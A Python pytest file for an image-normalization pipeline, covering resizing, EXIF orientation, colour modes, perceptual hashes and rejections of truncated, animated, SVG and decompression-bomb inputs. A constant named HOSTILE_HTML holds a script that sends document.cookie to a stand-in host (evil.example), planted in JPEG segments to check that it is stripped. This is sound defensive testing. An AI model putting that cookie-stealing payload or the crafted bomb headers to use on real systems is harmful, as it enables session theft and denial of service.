"""pipeline.images.normalize_image on the real photos, near-duplicate sets and broken images in
../shared/data/images, plus inputs built in the tests from those files (bombs, 16-bit, alpha)."""

from __future__ import annotations

import gzip
import hashlib
import io
import itertools
import random
import struct
import zlib
from pathlib import Path

import imagehash
import numpy as np
import pytest
from PIL import Image, ImageOps, JpegImagePlugin

from magiclens.pipeline.images import (
    DEFAULT_IMAGE,
    DEFAULT_MAX_PIXELS,
    REJECT_REASONS,
    ImageConfig,
    ImageRejected,
    normalize_image,
    normalize_with,
)
from magiclens.pipeline.images.jpeg import JpegStructureError, strip_jpeg_metadata
from magiclens.pipeline.records import NormalizedImage


@pytest.fixture(scope="module")
def images(shared_data: Path) -> Path:
    return shared_data / "images"


def pixels(normalized: NormalizedImage) -> np.ndarray:
    """The stored JPEG decoded, after checking that it is the RGB JPEG the record describes."""
    with Image.open(io.BytesIO(normalized.jpeg)) as stored:
        assert stored.format == "JPEG"
        assert stored.mode == "RGB"
        assert stored.size == (normalized.width, normalized.height)
        return np.asarray(stored).astype(np.int16)


def normalize_file(images: Path, relative: str, **options) -> NormalizedImage:
    return normalize_image((images / relative).read_bytes(), **options)


def phash_of(normalized: NormalizedImage) -> imagehash.ImageHash:
    return imagehash.hex_to_hash(normalized.phash)


def rejection(data: bytes, **options) -> ImageRejected:
    with pytest.raises(ImageRejected) as caught:
        normalize_image(data, **options)
    return caught.value


def png_bytes(image: Image.Image, **save_options) -> bytes:
    out = io.BytesIO()
    image.save(out, "PNG", **save_options)
    return out.getvalue()


def png_header_claiming(width: int, height: int) -> bytes:
    """A valid PNG signature and IHDR declaring width x height, then a few bytes of pixel data."""

    def chunk(tag: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def full_image_phash(data: bytes) -> imagehash.ImageHash:
    with Image.open(io.BytesIO(data)) as image:
        return imagehash.phash(ImageOps.exif_transpose(image), hash_size=8)


# --- the normal path -------------------------------------------------------------------------


def test_photos_become_bounded_upright_rgb_jpegs_of_the_same_shape(images: Path) -> None:
    paths = sorted((images / "photos").glob("*/*")) + sorted(
        (images / "neardup" / "pdq-bridge-mods").glob("*.jpg")
    )
    kept = 0
    for path in paths:
        data = path.read_bytes()
        try:
            normalized = normalize_image(data)
        except ImageRejected as rejected:
            assert rejected.reason == "too_small", (path.name, rejected)
            continue
        kept += 1
        pixels(normalized)
        assert max(normalized.width, normalized.height) == min(
            512, max(normalized.original_width, normalized.original_height)
        ), path.name
        # the aspect ratio is kept up to rounding to whole pixels
        skew = abs(
            normalized.width * normalized.original_height
            - normalized.height * normalized.original_width
        )
        assert skew <= max(normalized.original_width, normalized.original_height), path.name
        assert normalized.sha256 == hashlib.sha256(data).hexdigest()
        assert len(normalized.phash) == 16 and int(normalized.phash, 16) >= 0
    assert kept >= 30


def test_original_size_and_format_come_from_the_file(images: Path) -> None:
    bridge = normalize_image((images / "neardup/pdq-bridge-mods/aaa-orig.jpg").read_bytes())
    assert (bridge.original_width, bridge.original_height) == (1600, 1004)
    assert (bridge.width, bridge.height) == (512, 321)
    assert bridge.original_format == "JPEG"
    astronaut = normalize_image((images / "photos/skimage/astronaut.png").read_bytes())
    assert astronaut.original_format == "PNG"
    assert (astronaut.width, astronaut.height) == (512, 512)


def test_never_upscales(images: Path) -> None:
    small = normalize_image((images / "neardup/pdq-labelme-distractors/q0003.jpg").read_bytes())
    assert (small.width, small.height) == (256, 256)
    bridge = images / "neardup/pdq-bridge-mods/aaa-orig.jpg"
    full = normalize_image(bridge.read_bytes(), max_side=4000)
    assert (full.width, full.height) == (1600, 1004)
    narrower = normalize_image(bridge.read_bytes(), max_side=1000)
    assert (narrower.width, narrower.height) == (1000, 628)


def test_resized_image_still_shows_the_picture(images: Path) -> None:
    data = (images / "photos/skimage/coffee.png").read_bytes()
    normalized = normalize_image(data, max_side=300)
    with Image.open(io.BytesIO(data)) as original:
        reference = np.asarray(original.convert("RGB").resize((300, 200), Image.LANCZOS))
    assert np.abs(pixels(normalized) - reference).mean() < 4


def jpeg_bytes(image: Image.Image, **save_options) -> bytes:
    out = io.BytesIO()
    image.save(out, "JPEG", **save_options)
    return out.getvalue()


# An XMP packet whose tiff:Orientation 6 says "turn a quarter clockwise to view".
XMP_TURNED_A_QUARTER = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/">'
    b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:tiff="http://ns.adobe.com/tiff/1.0/" tiff:Orientation="6"/>'
    b"</rdf:RDF></x:xmpmeta>"
)


def test_small_baseline_jpeg_without_metadata_is_stored_as_it_came(images: Path) -> None:
    data = (images / "neardup/pdq-labelme-distractors/q0746.jpg").read_bytes()
    normalized = normalize_image(data)
    assert normalized.jpeg == data  # no lossy re-encode
    pixels(normalized)
    assert (normalized.width, normalized.height) == (256, 256)
    assert (normalized.original_width, normalized.original_height) == (256, 256)
    assert normalized.original_format == "JPEG"
    assert normalized.sha256 == hashlib.sha256(data).hexdigest()
    # it is still decoded (at a reduced scale for the hash): broken data is found as before
    for cut in (2, 10):
        assert rejection(data[: len(data) * (cut - 1) // cut]).reason == "truncated"


def test_small_jpegs_are_re_encoded_when_storing_them_as_is_would_not_do(images: Path) -> None:
    with Image.open(images / "neardup/pdq-labelme-distractors/q0746.jpg") as photo:
        picture = photo.convert("RGB")
    with Image.open(images / "photos/skimage/astronaut.png") as astronaut:
        detailed = astronaut.convert("RGB")
    near_lossless = jpeg_bytes(detailed, quality=100, subsampling=0)
    assert len(near_lossless) > 512 * 512  # over a byte per pixel: the re-encode saves bytes
    with_exif = (images / "neardup/pdq-bridge-mods/square-256x256.jpg").read_bytes()
    cases = {
        "progressive": jpeg_bytes(picture, quality=90, progressive=True),
        "gray": jpeg_bytes(picture.convert("L"), quality=90),
        "camera metadata": with_exif,
        "orientation in XMP": jpeg_bytes(picture, quality=90, xmp=XMP_TURNED_A_QUARTER),
        "near-lossless": near_lossless,
    }
    for case, data in cases.items():
        normalized = normalize_image(data)
        assert normalized.jpeg != data, case
        pixels(normalized)
        with Image.open(io.BytesIO(normalized.jpeg)) as stored:
            assert not stored.info.get("progressive"), case
            assert "exif" not in stored.info, case  # camera and place data are not kept
    assert len(normalize_image(near_lossless).jpeg) < len(near_lossless) / 2
    turned = pixels(normalize_image(cases["orientation in XMP"]))
    upright = np.asarray(picture.transpose(Image.Transpose.ROTATE_270)).astype(np.int16)
    assert np.abs(turned - upright).mean() < 8


def jpeg_segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + (len(body) + 2).to_bytes(2, "big") + body


HOSTILE_HTML = b'<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>'


def test_comments_metadata_and_trailing_bytes_of_a_jpeg_kept_as_is_are_not_stored(images: Path) -> None:
    """A small baseline JPEG keeps its coded pixels, but nothing a page hid around them."""
    clean = (images / "neardup/pdq-labelme-distractors/q0746.jpg").read_bytes()  # SOI, APP0 JFIF, tables, ...
    jfif_end = 2 + 2 + int.from_bytes(clean[4:6], "big")
    hostile = (
        clean[:jfif_end]
        + jpeg_segment(0xFE, HOSTILE_HTML)  # COM
        + jpeg_segment(0xED, HOSTILE_HTML)  # APP13 without Photoshop's identifier: Pillow ignores it
        + jpeg_segment(0xE2, b"ICC_PROFILE\x00\x01\x01" + HOSTILE_HTML)  # APP2
        + jpeg_segment(0xEB, HOSTILE_HTML)  # APP11, a vendor block
        + b"\xff\xff"  # fill bytes before the next marker
        + clean[jfif_end:]
        + HOSTILE_HTML  # after the end-of-image marker
    )
    normalized = normalize_image(hostile)
    assert normalized.jpeg == clean  # the coded pixels as they came, nothing else
    assert b"script" not in normalized.jpeg and b"evil" not in normalized.jpeg
    assert normalized.sha256 == hashlib.sha256(hostile).hexdigest()  # the identity of what was fetched
    with Image.open(io.BytesIO(clean)) as original:
        assert np.array_equal(pixels(normalized), np.asarray(original).astype(np.int16))


def test_a_re_encoded_jpeg_does_not_carry_the_comment_of_its_source(images: Path) -> None:
    with Image.open(images / "photos/skimage/coffee.png") as coffee:
        picture = coffee.convert("RGB")
    cases = {
        "large": jpeg_bytes(picture, quality=90, comment=HOSTILE_HTML),
        "progressive": jpeg_bytes(picture.resize((300, 200)), quality=90, progressive=True, comment=HOSTILE_HTML),
        "photoshop block": jpeg_bytes(picture.resize((300, 200)), quality=90, comment=HOSTILE_HTML)[:2]
        + jpeg_segment(0xED, b"Photoshop 3.0\x00" + HOSTILE_HTML)
        + jpeg_bytes(picture.resize((300, 200)), quality=90, comment=HOSTILE_HTML)[2:],
    }
    for case, data in cases.items():
        assert HOSTILE_HTML in data
        normalized = normalize_image(data)
        assert normalized.jpeg != data, case
        assert b"script" not in normalized.jpeg and b"\xff\xfe" not in normalized.jpeg, case
        pixels(normalized)


def test_comments_between_the_scans_of_a_jpeg_are_dropped(images: Path) -> None:
    with Image.open(images / "photos/skimage/coffee.png") as coffee:
        progressive = jpeg_bytes(coffee.convert("RGB"), quality=90, progressive=True)
    second_scan = progressive.index(b"\xff\xda", progressive.index(b"\xff\xda") + 2)
    hostile = progressive[:second_scan] + jpeg_segment(0xFE, HOSTILE_HTML) + progressive[second_scan:]
    stripped = strip_jpeg_metadata(hostile)
    assert b"script" not in stripped
    with Image.open(io.BytesIO(stripped)) as cleaned, Image.open(io.BytesIO(progressive)) as reference:
        assert np.array_equal(np.asarray(cleaned), np.asarray(reference))


def test_stripping_keeps_every_real_jpeg_decoding_to_the_same_pixels(images: Path) -> None:
    """CMYK with Adobe transforms, ICC profiles, EXIF, XMP, progressive, MPO: identical pixels."""
    checked = 0
    for path in sorted(p for p in images.rglob("*") if p.is_file()):
        data = path.read_bytes()
        if not data.startswith(b"\xff\xd8"):
            continue
        try:
            stripped = strip_jpeg_metadata(data)
        except JpegStructureError:
            assert path.name in ("pillow_truncated_jpeg.jpg", "pillow_ultrahdr.jpg"), path  # cut short
            continue
        assert len(stripped) <= len(data)
        with Image.open(io.BytesIO(data)) as original, Image.open(io.BytesIO(stripped)) as cleaned:
            assert "comment" not in cleaned.info and "icc_profile" not in cleaned.info, path
            assert not any(key in cleaned.info for key in ("exif", "xmp", "photoshop")), path
            assert np.array_equal(np.asarray(original), np.asarray(cleaned)), path
        checked += 1
    assert checked >= 50


@pytest.mark.parametrize(
    "broken",
    [
        b"",
        b"\x89PNG\r\n\x1a\n",
        b"\xff\xd8",  # nothing after the start
        b"\xff\xd8\xff\xfe\x00\x40short",  # a comment longer than the file
        b"\xff\xd8\xff\xfe\x00\x01",  # a length under 2
        b"\xff\xd8garbage",  # no marker where one must be
        b"\xff\xd8\xff\xda\x00\x02\x12\x34",  # scan data without an end
        b"\xff\xd8\xff\xd0\xff\xd9",  # a restart marker outside a scan
    ],
)
def test_malformed_jpeg_structure_is_an_error_of_its_own(broken: bytes) -> None:
    with pytest.raises(JpegStructureError):
        strip_jpeg_metadata(broken)


def test_a_jpeg_whose_segments_cannot_be_walked_is_re_encoded_or_rejected(images: Path) -> None:
    clean = (images / "neardup/pdq-labelme-distractors/q0746.jpg").read_bytes()
    without_end = clean[:-2]  # the decoder accepts a missing end-of-image marker; the walker does not
    try:
        normalized = normalize_image(without_end)
    except ImageRejected as rejected:
        assert rejected.reason in REJECT_REASONS
    else:
        assert normalized.jpeg != without_end
        pixels(normalized)


def test_the_hash_does_not_depend_on_whether_the_jpeg_was_stored_as_is(images: Path) -> None:
    """The same picture hashes as a near-duplicate of itself through either path (threshold 8)."""
    stored_as_is = 0
    for path in sorted((images / "neardup/pdq-labelme-distractors").iterdir()):
        data = path.read_bytes()
        as_is = normalize_image(data)
        stored_as_is += as_is.jpeg == data
        shrunk = normalize_image(data, max_side=as_is.width - 1)  # forces decode and resize
        assert phash_of(as_is) - phash_of(shrunk) <= 8, path.name
    assert stored_as_is == 7


# --- orientation, colour modes -----------------------------------------------------------


@pytest.mark.parametrize("orientation", [3, 6])
def test_exif_orientation_is_applied(images: Path, orientation: int) -> None:
    upright = pixels(normalize_file(images, "edgecases/pillow_hopper.jpg", min_side=1))
    path = images / f"edgecases/pillow_hopper_orientation_{orientation}.jpg"
    rotated = pixels(normalize_image(path.read_bytes(), min_side=1))
    with Image.open(path) as stored:
        as_stored = np.asarray(stored.convert("RGB")).astype(np.int16)
    assert np.abs(as_stored - upright).mean() > 40  # the file really is stored rotated
    assert np.abs(rotated - upright).mean() < 8


def test_exif_rotated_photo_reports_its_upright_size(images: Path) -> None:
    # a UKBench photo stored 640x480 with an EXIF orientation that turns it by 90 degrees
    path = images / "neardup/imagededup-ukbench/base_images/ukbench09268.jpg"
    with Image.open(path) as stored:
        assert stored.size == (640, 480)
    normalized = normalize_image(path.read_bytes())
    assert (normalized.original_width, normalized.original_height) == (480, 640)
    assert (normalized.width, normalized.height) == (384, 512)


def test_a_large_exif_rotated_jpeg_is_decoded_at_reduced_scale(
    images: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Draft decoding is chosen from the stored size, so an EXIF turn does not make it decode in full."""
    with Image.open(images / "neardup/pdq-bridge-mods/aaa-orig.jpg") as photo:  # 1600x1004
        exif = Image.Exif()
        exif[0x0112] = 6  # stored turned: shown 90 degrees clockwise
        out = io.BytesIO()
        photo.save(out, "JPEG", quality=90, exif=exif.tobytes())
    decoded_sizes = []
    draft = JpegImagePlugin.JpegImageFile.draft

    def recording_draft(self, mode, size):
        result = draft(self, mode, size)
        decoded_sizes.append(self.size)
        return result

    monkeypatch.setattr(JpegImagePlugin.JpegImageFile, "draft", recording_draft)
    normalized = normalize_image(out.getvalue())
    assert decoded_sizes == [(800, 502)]  # 1/2 scale, the smallest still at least 512 x 321
    assert (normalized.original_width, normalized.original_height) == (1004, 1600)
    assert (normalized.width, normalized.height) == (321, 512)


def test_cmyk_jpeg_is_converted_with_plausible_colours(images: Path) -> None:
    # Pillow's sample: red "RED" lettering and a red square on black, stored as Adobe CMYK
    normalized = normalize_image(
        (images / "edgecases/pillow_pil_sample_cmyk.jpg").read_bytes(), min_side=1
    )
    rgb = pixels(normalized)
    red, green, blue = rgb[2, 2]
    assert red > 200 and green < 70 and blue < 70
    assert rgb[-3, -3].max() < 50  # black, not the white an un-inverted Adobe CMYK would give
    assert rgb.mean() < 80


def test_sixteen_bit_gray_is_scaled_not_clipped(images: Path) -> None:
    data = (images / "photos/skimage/camera.png").read_bytes()
    with Image.open(io.BytesIO(data)) as camera:
        eight_bit = np.asarray(camera.convert("L")).astype(np.uint16)
    sixteen_bit = png_bytes(Image.fromarray(eight_bit * 257))
    with Image.open(io.BytesIO(sixteen_bit)) as reopened:
        assert reopened.mode.startswith("I")  # Pillow decodes it as 16-bit gray
    from_sixteen = pixels(normalize_image(sixteen_bit))
    from_eight = pixels(normalize_image(data))
    assert np.abs(from_sixteen - from_eight).mean() < 1.5
    assert (from_sixteen == 255).mean() < 0.05  # a plain convert("L") would clip most to white


def test_jpeg_with_sixteen_bit_quantisation_tables_decodes(images: Path) -> None:
    upright = pixels(normalize_file(images, "edgecases/pillow_hopper.jpg", min_side=1))
    qtables = normalize_file(images, "edgecases/pillow_hopper_16bit_qtables.jpg", min_side=1)
    # a 2 KB file: heavily quantised, but the same picture (hopper vs. a rotated hopper is ~80)
    assert float(np.abs(pixels(qtables) - upright).mean()) < 16


def photo_with_transparent_left_half(images: Path) -> Image.Image:
    """A real photo as RGBA whose left half is transparent black, as icons usually store it."""
    with Image.open(images / "photos/skimage/astronaut.png") as photo:
        rgba = photo.convert("RGBA").reduce(2)
    rgba.paste((0, 0, 0, 0), (0, 0, rgba.width // 2, rgba.height))
    return rgba


def test_transparent_pixels_are_composited_on_white(images: Path) -> None:
    rgba = photo_with_transparent_left_half(images)
    rgb = pixels(normalize_image(png_bytes(rgba)))
    assert rgb[:, : rgb.shape[1] // 2 - 4].min() > 245
    opaque = np.asarray(rgba.convert("RGB"))[:, rgba.width // 2 + 4 :]
    assert np.abs(rgb[:, rgb.shape[1] // 2 + 4 :] - opaque).mean() < 4


def test_palette_and_gray_alpha_transparency_become_white(images: Path) -> None:
    rgba = photo_with_transparent_left_half(images)
    palette = rgba.convert("RGB").quantize(64)
    palette.paste(0, (0, 0, rgba.width // 2, rgba.height))
    for data in (
        png_bytes(palette, transparency=0),  # P with a transparent index
        png_bytes(rgba.convert("LA")),
    ):
        rgb = pixels(normalize_image(data))
        assert rgb[:, : rgb.shape[1] // 2 - 4].min() > 245
        assert rgb[:, rgb.shape[1] // 2 + 4 :].mean() < 200


def test_transparent_icons_do_not_hash_alike(images: Path) -> None:
    """Icons store their background as transparent black: dropping alpha would make every dark
    icon an all-black image with one and the same hash."""
    hashes = []
    for name in ("horse.png", "camera.png"):
        with Image.open(images / "photos/skimage" / name) as photo:
            dark = np.asarray(photo.convert("L").resize((400, 400))) < 100
        icon = np.zeros((400, 400, 4), dtype=np.uint8)  # transparent black everywhere
        icon[dark, 3] = 255  # opaque black where the real picture is dark
        hashes.append(phash_of(normalize_image(png_bytes(Image.fromarray(icon, "RGBA")))))
    assert hashes[0] - hashes[1] > 8


def test_opaque_rgba_png_is_kept(images: Path) -> None:
    normalized = normalize_file(images, "edgecases/imagededup_alpha_channel_image.png")
    assert (normalized.width, normalized.height) == (512, 384)
    assert normalized.original_format == "PNG"


def test_mpo_keeps_its_first_picture(images: Path) -> None:
    data = (images / "edgecases/pillow_sugarshack.mpo").read_bytes()
    normalized = normalize_image(data)
    assert normalized.original_format == "MPO"
    with Image.open(io.BytesIO(data)) as mpo:
        first = np.asarray(mpo.convert("RGB").resize((512, 384), Image.LANCZOS)).astype(np.int16)
        mpo.seek(1)
        second = np.asarray(mpo.convert("RGB").resize((512, 384), Image.LANCZOS)).astype(np.int16)
    stored = pixels(normalized)
    assert np.abs(stored - first).mean() < 4
    assert np.abs(stored - first).mean() < np.abs(stored - second).mean()


def test_other_real_formats_are_kept(images: Path) -> None:
    for name in ("pillow_flower.webp", "pillow_flower.jpg", "pillow_icc_profile_big.jpg"):
        normalized = normalize_image((images / "edgecases" / name).read_bytes())
        pixels(normalized)
    for suffix in ("gif", "bmp", "webp", "png"):
        normalized = normalize_file(images, f"edgecases/pillow_hopper.{suffix}", min_side=1)
        assert (normalized.width, normalized.height) == (128, 128)


# --- rejections ---------------------------------------------------------------------------


def test_empty_bytes() -> None:
    assert rejection(b"").reason == "empty"


def test_svg_is_recognised_by_its_bytes() -> None:
    svg = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b"<!-- drawn by hand -->\n"
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [ <!ENTITY ns "x"> ]>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300">'
        b'<rect width="400" height="300" fill="red"/></svg>\n'
    )
    assert rejection(svg).reason == "svg"
    assert rejection(b"\xef\xbb\xbf  <svg viewBox='0 0 10 10'/>").reason == "svg"
    assert rejection(gzip.compress(svg)).reason == "svg"  # .svgz
    html = b"<!doctype html><html><body><svg width='10'></svg></body></html>"
    assert rejection(html).reason == "not_image"


def test_bytes_that_are_not_an_image(images: Path) -> None:
    assert rejection(random.Random(0).randbytes(5000)).reason == "not_image"
    pickle = (images / "neardup/imagededup-ukbench/ground_truth.pkl").read_bytes()
    assert rejection(pickle).reason == "not_image"
    corrupt = rejection((images / "edgecases/imagededup_ukbench09268_corrupt.jpg").read_bytes())
    assert corrupt.reason == "not_image"
    assert "first bytes" in corrupt.detail


def test_truncated_images(images: Path) -> None:
    truncated_jpeg = (images / "edgecases/pillow_truncated_jpeg.jpg").read_bytes()
    assert rejection(truncated_jpeg, min_side=1).reason == "truncated"
    # Pillow's Ultra HDR sample: a 1512x2688 header whose picture data was cut off
    assert rejection((images / "edgecases/pillow_ultrahdr.jpg").read_bytes()).reason == "truncated"
    astronaut = (images / "photos/skimage/astronaut.png").read_bytes()
    assert rejection(astronaut[: len(astronaut) // 2]).reason == "truncated"


def test_corrupt_pixel_data(images: Path) -> None:
    data = bytearray((images / "photos/skimage/astronaut.png").read_bytes())
    middle = len(data) // 2
    data[middle : middle + 64] = bytes(64)  # zeroes inside the compressed pixel data
    rejected = rejection(bytes(data))
    assert rejected.reason == "decode_error"
    assert "Error" in rejected.detail


def test_animations_are_rejected_but_single_frames_kept(images: Path) -> None:
    assert rejection((images / "edgecases/pillow_iss634.gif").read_bytes()).reason == "animated"
    with Image.open(images / "photos/skimage/coffee.png") as coffee:
        first = coffee.convert("RGB").resize((240, 160))
    frames = [first, first.transpose(Image.Transpose.ROTATE_180)]
    for file_format in ("PNG", "WEBP", "GIF"):
        animation = io.BytesIO()
        frames[0].save(animation, file_format, save_all=True, append_images=frames[1:])
        assert rejection(animation.getvalue()).reason == "animated", file_format
        single = io.BytesIO()
        frames[0].save(single, file_format, save_all=True)
        assert normalize_image(single.getvalue()).width == 240, file_format


def test_size_and_aspect_limits_are_read_from_the_header(images: Path) -> None:
    # only the first 3 KB of a 1600x1004 JPEG: the header is complete, the pixels are not
    header_only = (images / "neardup/pdq-bridge-mods/aaa-orig.jpg").read_bytes()[:3000]
    assert rejection(header_only).reason == "truncated"
    assert rejection(header_only, min_side=1100).reason == "too_small"
    assert rejection(header_only, max_aspect=1.5).reason == "aspect_ratio"
    assert rejection(header_only, max_pixels=1_000_000).reason == "decompression_bomb"


def test_default_size_and_aspect_limits(images: Path) -> None:
    too_small = rejection((images / "photos/skimage/microaneurysms.png").read_bytes())
    assert too_small.reason == "too_small"
    assert "102x102" in too_small.detail
    page = (images / "photos/skimage/page.png").read_bytes()  # 384x191: aspect 2.01
    assert normalize_image(page).width == 384
    assert rejection(page, max_aspect=2.0).reason == "aspect_ratio"
    with Image.open(images / "photos/skimage/coffee.png") as coffee:
        banner = png_bytes(coffee.resize((1200, 160)))
    assert rejection(banner, min_side=100).reason == "aspect_ratio"


def test_decompression_bomb_header_is_refused_before_decoding() -> None:
    # 100,000 x 100,000 pixels (30 GB decoded) declared in a 100-byte file
    rejected = rejection(png_header_claiming(100_000, 100_000))
    assert rejected.reason == "decompression_bomb"


def test_compressible_bomb_is_refused_by_the_per_call_limit() -> None:
    white = png_bytes(Image.new("L", (4000, 3000), 255))
    assert len(white) < 100_000
    assert rejection(white, max_pixels=10_000_000).reason == "decompression_bomb"
    assert normalize_image(white).width == 512  # under the default limit it is an image


@pytest.mark.parametrize("width, height", [(9000, 9000), (11_000, 8000)])
def test_images_under_pillows_limit_but_over_ours_are_refused_from_the_header(width: int, height: int) -> None:
    # 81 M and 88 M pixels: Pillow (89.5 M) would decode them in full (240 MB and more) before
    # they were shrunk; a header with no pixel data behind it shows that nothing was decoded
    # (decoding would have found it truncated)
    rejected = rejection(png_header_claiming(width, height))
    assert rejected.reason == "decompression_bomb"
    assert f"{width}x{height}" in rejected.detail and str(DEFAULT_MAX_PIXELS) in rejected.detail
    assert DEFAULT_MAX_PIXELS == DEFAULT_IMAGE.max_pixels == 40_000_000


def test_the_pixel_limit_is_configurable() -> None:
    white = png_bytes(Image.new("L", (4000, 3000), 255))
    assert normalize_with(white, ImageConfig(max_pixels=12_000_000)).width == 512
    with pytest.raises(ImageRejected) as caught:
        normalize_with(white, ImageConfig(max_pixels=11_999_999))
    assert caught.value.reason == "decompression_bomb"


def test_pillow_bomb_warning_reaches_the_caller() -> None:
    # 100M pixels: over Pillow's warning limit (89.5M), under its error limit (179M)
    with pytest.warns(Image.DecompressionBombWarning):
        rejected = rejection(png_header_claiming(10_000, 10_000))
    assert rejected.reason == "decompression_bomb"


def test_no_other_exception_escapes_on_damaged_real_files(images: Path) -> None:
    """Truncations, byte flips and noise: every outcome is an image or a reasoned rejection."""
    rng = random.Random(1234)
    paths = [
        images / "edgecases/pillow_flower.jpg",
        images / "edgecases/pillow_flower.webp",
        images / "edgecases/pillow_iss634.gif",
        images / "edgecases/pillow_sugarshack.mpo",
        images / "edgecases/pillow_hopper.bmp",
        images / "edgecases/pillow_pil_sample_cmyk.jpg",
        images / "edgecases/pillow_hopper_orientation_6.jpg",
        images / "photos/skimage/chelsea.png",
        images / "photos/skimage/horse.png",
        images / "neardup/pdq-labelme-distractors/q0746.jpg",
    ]
    outcomes: set[str] = set()
    for path in paths:
        data = path.read_bytes()
        damaged = [data[: rng.randrange(1, len(data))] for _ in range(5)]
        for flips in (1, 4, 16, 64):
            flipped = bytearray(data)
            for _ in range(flips):
                flipped[rng.randrange(len(flipped))] = rng.randrange(256)
            damaged.append(bytes(flipped))
        damaged.append(data[:32] + rng.randbytes(3000))
        for variant in damaged:
            try:
                normalized = normalize_image(variant, min_side=50)
            except ImageRejected as rejected:
                assert rejected.reason in REJECT_REASONS
                assert rejected.detail
                outcomes.add(rejected.reason)
            else:
                pixels(normalized)
                outcomes.add("kept")
    assert {"kept", "truncated", "not_image"} <= outcomes


# --- perceptual hash ------------------------------------------------------------------------


def test_phash_of_the_reduced_image_matches_the_full_image(images: Path) -> None:
    """The hash comes from a gray copy of at least 96 px (a JPEG stored as is: decoded at 1/2
    to 1/8 scale). On these sets it stays within 4 bits of imagehash's pHash of the full
    picture, as hashing the 512 px image did; at 64 px it moved by up to 8."""
    paths = [
        path
        for folder in ("pdq-bridge-mods", "pdq-labelme-distractors", "imagehash-tests")
        for path in sorted((images / "neardup" / folder).iterdir())
    ] + sorted((images / "neardup/imagededup-ukbench/base_images").iterdir())
    for path in paths:
        data = path.read_bytes()
        reduced = phash_of(normalize_image(data, min_side=1, max_aspect=10))
        assert reduced - full_image_phash(data) <= 4, path.name


# pHashes that dedupe has stored, from normalize_image with Pillow 12.3: a change to decoding,
# resizing or the hash itself must keep them, or stored outputs stop matching new ones.
PINNED_PHASHES = {
    "neardup/pdq-bridge-mods/aaa-orig.jpg": "aca29c1c33dc23d7",  # large JPEG: draft decoding
    "photos/skimage/retina.jpg": "c0cd1f977ac02d0f",
    "photos/skimage/hubble_deep_field.jpg": "84cc4f96ba4d133e",  # large, too small for draft
    "neardup/imagededup-ukbench/base_images/ukbench09268.jpg": "cccc333d1ab0e9d2",  # EXIF-rotated
    "neardup/imagededup-ukbench/base_images/ukbench00120.jpg": "9fee256238984d71",
    "photos/skimage/motorcycle_left.png": "c507c66b9370aa73",
    "photos/skimage/camera.png": "9ff9c1c0434e8cbc",  # gray
    "neardup/pdq-labelme-distractors/pen-and-coaster.png": "b7cfd2249930c3c3",  # alpha
    "neardup/pdq-labelme-distractors/q0003.jpg": "807f5457505f017f",  # stored as it came
    "edgecases/pillow_pil_sample_cmyk.jpg": "c4f07b7ae0e47858",
}


@pytest.mark.parametrize("relative", sorted(PINNED_PHASHES))
def test_phash_values_do_not_move(images: Path, relative: str) -> None:
    found = normalize_file(images, relative, min_side=1).phash
    assert found == PINNED_PHASHES[relative], (
        f"the pHash of {relative} moved from {PINNED_PHASHES[relative]} to {found}: near-duplicates "
        "stored before this change would no longer be found; if a Pillow upgrade moved it, re-hash "
        "stored outputs before updating this table"
    )


def test_edited_copies_hash_near_the_original(images: Path) -> None:
    bridge = images / "neardup/pdq-bridge-mods"
    original = phash_of(normalize_image((bridge / "aaa-orig.jpg").read_bytes()))
    for path in sorted(bridge.glob("*.jpg")):
        edited = phash_of(normalize_image(path.read_bytes(), min_side=1))
        assert edited - original <= 8, path.name
    ukbench = "neardup/imagededup-ukbench"
    base = phash_of(normalize_file(images, f"{ukbench}/base_images/ukbench00120.jpg"))
    for copy in ("mixed_images/ukbench00120_resize.jpg", "ukbench00120_gray.jpg"):
        assert phash_of(normalize_file(images, f"{ukbench}/{copy}")) - base <= 8, copy


def test_distinct_photos_hash_far_apart(images: Path) -> None:
    paths = (
        sorted((images / "photos").glob("*/*"))
        + sorted((images / "neardup/pdq-labelme-distractors").iterdir())
        + sorted((images / "neardup/imagededup-ukbench/base_images").iterdir())
    )
    hashes = {
        path.name: phash_of(normalize_image(path.read_bytes(), min_side=1))
        for path in paths
    }
    assert len(hashes) == 42
    # the one close pair is a stereo pair: the same scene seen by two cameras side by side
    stereo_pair = {"motorcycle_left.png", "motorcycle_right.png"}
    for (name_a, hash_a), (name_b, hash_b) in itertools.combinations(hashes.items(), 2):
        if {name_a, name_b} != stereo_pair:
            assert hash_a - hash_b > 8, (name_a, name_b)
